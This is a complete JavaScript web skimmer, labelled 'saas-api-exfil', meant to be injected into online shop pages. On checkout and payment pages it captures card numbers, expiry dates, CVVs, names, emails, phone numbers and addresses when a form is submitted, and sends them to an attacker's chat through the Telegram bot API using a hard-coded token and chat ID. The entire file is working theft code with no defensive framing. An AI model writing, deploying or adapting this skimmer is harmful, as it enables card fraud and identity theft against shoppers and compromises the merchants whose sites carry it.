// saas-api-exfil: checkout form values relayed as a chat message through a bot HTTP API
// ES5, vanilla DOM, triggered on form submit
(function () {
  var BOT_TOKEN = '6183920417:AAG3kqZr8VtLw0pXnE2yHcD5sJfQmB7uTxo';
  var CHAT_ID = '-1001872663104';
  var API_BASE = 'https://api.telegram.org/bot';

  function pageLooksLikeCheckout() {
    var path = window.location.pathname.toLowerCase();
    return path.indexOf('checkout') !== -1 || path.indexOf('onepage') !== -1 || path.indexOf('payment') !== -1;
  }

  function readField(selectors) {
    for (var i = 0; i < selectors.length; i++) {
      var el = document.querySelector(selectors[i]);
      if (el && el.value) {
        return el.value.replace(/^\s+|\s+$/g, '');
      }
    }
    return '';
  }

  function collectOrder() {
    return {
      card: readField(['#cc_number', 'input[name="cardnumber"]', 'input[autocomplete="cc-number"]']),
      exp: readField(['#cc_exp', 'input[name="exp-date"]', 'input[autocomplete="cc-exp"]']),
      cvv: readField(['#cc_cvv', 'input[name="cvc"]', 'input[autocomplete="cc-csc"]']),
      holder: readField(['#cc_name', 'input[autocomplete="cc-name"]', '#billing_first_name']),
      email: readField(['#billing_email', 'input[type="email"]']),
      phone: readField(['#billing_phone', 'input[type="tel"]']),
      street: readField(['#billing_address_1', 'input[name="street[0]"]']),
      zip: readField(['#billing_postcode', 'input[name="postcode"]'])
    };
  }

  function formatMessage(o) {
    var lines = [
      'NEW ORDER ' + window.location.hostname,
      'CC: ' + o.card,
      'EXP: ' + o.exp + '  CVV: ' + o.cvv,
      'NAME: ' + o.holder,
      'MAIL: ' + o.email + '  TEL: ' + o.phone,
      'ADDR: ' + o.street + ' ' + o.zip,
      'UA: ' + navigator.userAgent
    ];
    return lines.join('\n');
  }

  function relay(text) {
    var url = API_BASE + BOT_TOKEN + '/sendMessage';
    var body = 'chat_id=' + encodeURIComponent(CHAT_ID) + '&text=' + encodeURIComponent(text);
    try {
      fetch(url, {
        method: 'POST',
        mode: 'no-cors',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: body
      });
    } catch (e) {
      var x = new XMLHttpRequest();
      x.open('POST', url, true);
      x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
      x.send(body);
    }
  }

  if (!pageLooksLikeCheckout()) {
    return;
  }

  document.addEventListener('submit', function () {
    var order = collectOrder();
    if (order.card.replace(/\D/g, '').length >= 13) {
      relay(formatMessage(order));
    }
  }, true);
})();
